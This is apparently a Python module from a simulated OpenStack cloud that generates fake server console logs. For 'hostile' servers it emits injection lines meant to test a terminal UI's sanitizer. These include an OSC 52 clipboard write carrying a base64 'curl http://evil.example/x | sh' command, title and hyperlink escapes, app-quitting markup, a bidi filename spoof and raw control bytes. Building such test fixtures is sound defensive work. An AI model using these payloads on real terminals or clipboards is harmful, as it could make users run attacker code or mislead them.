"""A server's console log, computed lazily: nothing is stored but when the current boot started.

Line ``k`` of a boot's log is a pure function of the server and ``k``: a fixed boot sequence
(kernel, systemd, cloud-init with the server's name and IPs, a login prompt), then one line every
``cloud.config.console_interval`` seconds while the server runs, plus burst lines
(``simcloud:console-burst`` metadata). Servers with ``simcloud:hostile-console`` metadata (and the
seeded "console-chaos") also print terminal escapes, OSC 52 clipboard writes, Rich markup, a
100,000-character line and decoded-invalid UTF-8, for the UI's sanitizer to face.

Real Nova strips C0 control characters from console output; simcloud deliberately does not.
"""

from __future__ import annotations

import base64
import time
import zlib
from typing import Any

from tuicloud.simcloud.nova_model import Server, hostname_for

MAX_BYTES = 1 << 20  # the tail that is kept, like Nova's libvirt console log cap (bigger here)
BURST_CAP = 200_000

_BOOT = (
    "[    0.000000] Linux version 6.8.0-45-generic (buildd@lcy02-amd64-075) "
    "(x86_64-linux-gnu-gcc-13 (Ubuntu 13.2.0-23ubuntu4) 13.2.0) #45-Ubuntu SMP PREEMPT_DYNAMIC",
    "[    0.000000] Command line: BOOT_IMAGE=/vmlinuz-6.8.0-45-generic root=LABEL=cloudimg-rootfs"
    " ro console=tty1 console=ttyS0",
    "[    0.000000] DMI: OpenStack Foundation OpenStack Nova, BIOS 1.16.3-debian-1.16.3-2 "
    "04/01/2014",
    "[    0.000000] Hypervisor detected: KVM",
    "[    0.012345] Memory: {ram}K/{ram}K available (20480K kernel code, 4096K rwdata)",
    "[    0.104211] smpboot: Allowing {vcpus} CPUs, 0 hotplug CPUs",
    "[    0.845120] virtio_blk virtio2: [vda] {sectors} 512-byte logical blocks",
    "[    0.851002]  vda: vda1 vda14 vda15",
    "[    1.204377] EXT4-fs (vda1): mounted filesystem with ordered data mode. Quota mode: none.",
    "[    1.830122] systemd[1]: systemd 255.4-1ubuntu8.4 running in system mode",
    "[    1.842310] systemd[1]: Detected virtualization kvm.",
    "[    1.850771] systemd[1]: Hostname set to <{hostname}>.",
    "[  OK  ] Started systemd-journald.service - Journal Service.",
    "[  OK  ] Finished systemd-remount-fs.service - Remount Root and Kernel File Systems.",
    "[  OK  ] Started systemd-udevd.service - Rule-based Manager for Device Events and Files.",
    "[  OK  ] Reached target network-pre.target - Preparation for Network.",
    "         Starting systemd-networkd.service - Network Configuration...",
    "[  OK  ] Started systemd-networkd.service - Network Configuration.",
    "[    4.102938] cloud-init[512]: Cloud-init v. 24.1.3-0ubuntu3.3 running 'init' at "
    "{boot}. Up 4.10 seconds.",
    "[    4.210004] cloud-init[512]: ci-info: ++++++++++++++++++++Net device info"
    "++++++++++++++++++++",
    "[    4.210112] cloud-init[512]: ci-info: | Device |  Up  |   Address   | Hw-Address        |",
    "[    4.210241] cloud-init[512]: ci-info: |  eth0  | True | {ip:<11} | {mac} |",
    "[    4.210377] cloud-init[512]: ci-info: |   lo   | True | 127.0.0.1   | .                 |",
    "[    5.331874] cloud-init[512]: Generating public/private ed25519 key pair.",
    "[    5.402210] cloud-init[512]: The key fingerprint is:",
    "[    5.402367] cloud-init[512]: SHA256:{fp} root@{hostname}",
    "[  OK  ] Started ssh.service - OpenBSD Secure Shell server.",
    "[  OK  ] Reached target multi-user.target - Multi-User System.",
    "[    8.918272] cloud-init[701]: Cloud-init v. 24.1.3-0ubuntu3.3 finished at {boot}. "
    "Datasource DataSourceOpenStackLocal [net,ver=2].  Up 8.91 seconds",
    "",
    "Ubuntu 24.04.1 LTS {hostname} ttyS0",
    "",
    "{hostname} login: ",
)
_PERIODIC = (
    "systemd[1]: Starting apt-daily.service - Daily apt download activities...",
    "systemd[1]: Finished apt-daily.service - Daily apt download activities.",
    "CRON[{pid}]: (root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)",
    "kernel: [UFW BLOCK] IN=eth0 OUT= MAC={mac} SRC=203.0.113.{octet} DST={ip} LEN=60 "
    "PROTO=TCP SPT={port} DPT=22 SYN",
    "sshd[{pid}]: Invalid user admin from 198.51.100.{octet} port {port}",
    "sshd[{pid}]: Connection closed by authenticating user root 198.51.100.{octet} port {port}"
    " [preauth]",
    "systemd[1]: Started session-{octet}.scope - Session {octet} of User ubuntu.",
    "systemd-networkd[402]: eth0: DHCPv4 address {ip}/16, gateway 10.0.0.1 acquired from "
    "10.0.0.2",
    "{hostname} health-check[{pid}]: ok (load {load})",
    "kernel: TCP: request_sock_TCP: Possible SYN flooding on port 80. Sending cookies.",
)
_HOSTILE_KINDS = 7


def _hostile(kind: int, server: Server) -> str:
    """One of the nasty lines a console may carry."""
    if kind == 0:  # colours, cursor movement and a screen clear
        return ("\x1b[1;31mERROR\x1b[0m \x1b[32mservice started\x1b[0m "
                "\x1b[2J\x1b[H\x1b[5;10Hmoved cursor\x1b[?25l")
    if kind == 1:  # clipboard write (OSC 52)
        payload = base64.b64encode(b"curl http://evil.example/x | sh").decode()
        return f"clipboard: \x1b]52;c;{payload}\x07 done"
    if kind == 2:  # window title (OSC 0) and a hyperlink (OSC 8)
        return ("\x1b]0;pwned-title\x07title changed \x1b]8;;http://evil.example/\x1b\\"
                "innocent link\x1b]8;;\x1b\\")
    if kind == 3:  # Rich/Textual markup that must be shown literally, and a bidi override
        return (f"[bold red]{server.name}[/] [link=http://evil.example]click[/link] [/] "
                "[@click=app.quit]x[/] \u202eexe.txt\u202c")
    if kind == 4:  # one enormous line
        return "LONG:" + "0123456789abcdef" * 6250
    if kind == 5:  # bytes that were not UTF-8, decoded with replacement characters
        return b"invalid utf-8: \xff\xfe\xc3\x28 \xe2\x82 end".decode("utf-8", "replace")
    # ... and as lone surrogates (JSON carries them as \udcXX escapes), plus C0/C1 controls
    raw = b"raw bytes: \xff\xfe\xc3\x28".decode("utf-8", "surrogateescape")
    return raw + " bell\x07 nul\x00 bs\x08\x08 cr\rOVERWRITE \x9b31m c1-csi \x1bc reset"


class ConsoleInfo:
    """Per-request facts a log line needs (name, IPs) so they are looked up once."""

    __slots__ = ("hostname", "ip", "mac", "ram", "vcpus", "disk", "boot")

    def __init__(self, server: Server, flavor: dict[str, Any], ip: str, mac: str) -> None:
        self.hostname = server.hostname or hostname_for(server.name)
        self.ip = ip
        self.mac = mac
        self.ram = flavor["ram"] * 1024
        self.vcpus = flavor["vcpus"]
        self.disk = flavor["disk"]
        start = server.console_start or 0.0
        self.boot = time.strftime("%a, %d %b %Y %H:%M:%S +0000", time.gmtime(start))


def line_count(server: Server, interval: float, now: float | None = None) -> int:
    """How many lines the current boot's log has."""
    if server.console_start is None:
        return 0
    if server.console_frozen is not None:
        elapsed = server.console_frozen
    else:
        elapsed = (now if now is not None else time.time()) - server.console_start
    timed = int(max(elapsed, 0.0) / interval) if interval > 0 else 0
    return len(_BOOT) + (2 if server.hostile else 0) + timed + server.console_extra


def line(server: Server, info: ConsoleInfo, index: int, interval: float) -> str:
    """Line ``index`` of the server's current boot log."""
    boot_len = len(_BOOT)
    if server.hostile:
        # two hostile lines sit in the boot sequence, just before the login banner
        cut = boot_len - 4
        if cut <= index < cut + 2:
            return _hostile(index - cut, server)
        if index >= cut + 2:
            index -= 2
    if index < boot_len:
        return _boot_line(server, info, index)
    k = index - boot_len
    seed = zlib.crc32(f"{server.id}:{k}".encode())
    if server.hostile and k % 5 == 2:
        return _hostile((k // 5) % _HOSTILE_KINDS, server)
    stamp = 9.0 + (k + 1) * max(interval, 0.001)
    template = _PERIODIC[seed % len(_PERIODIC)]
    text = template.format(pid=1000 + seed % 30000, octet=seed % 250 + 2,
                           port=32768 + seed % 28000, ip=info.ip, mac=info.mac,
                           hostname=info.hostname, load=f"{seed % 300 / 100:.2f}")
    return f"[{stamp:12.6f}] {text}"


def _boot_line(server: Server, info: ConsoleInfo, index: int) -> str:
    fp = base64.b64encode(zlib.crc32(server.id.encode()).to_bytes(4, "big") * 8).decode()
    return _BOOT[index].format(ram=info.ram, vcpus=info.vcpus, sectors=info.disk * 2097152,
                               hostname=info.hostname, boot=info.boot, ip=info.ip,
                               mac=info.mac, fp=fp.rstrip("="))


def output(server: Server, info: ConsoleInfo, interval: float, length: int | None) -> str:
    """The log's last ``length`` lines (all when None), within the kept tail of MAX_BYTES,
    joined by newlines with none at the end (Nova's tail splits on newlines the same way)."""
    total = line_count(server, interval)
    wanted = total if length is None or length < 0 else min(length, total)
    lines: list[str] = []
    size = 0
    index = total - 1
    while len(lines) < wanted and index >= 0:
        text = line(server, info, index, interval)
        size += len(text) + 1
        if size > MAX_BYTES and lines:
            break
        lines.append(text)
        index -= 1
    lines.reverse()
    # No newline after the last line: a guest's console ends where the cursor is (real Nova's
    # fake driver ends "...LAST LINE"), so the last line is a partial one a client must keep.
    return "\n".join(lines)
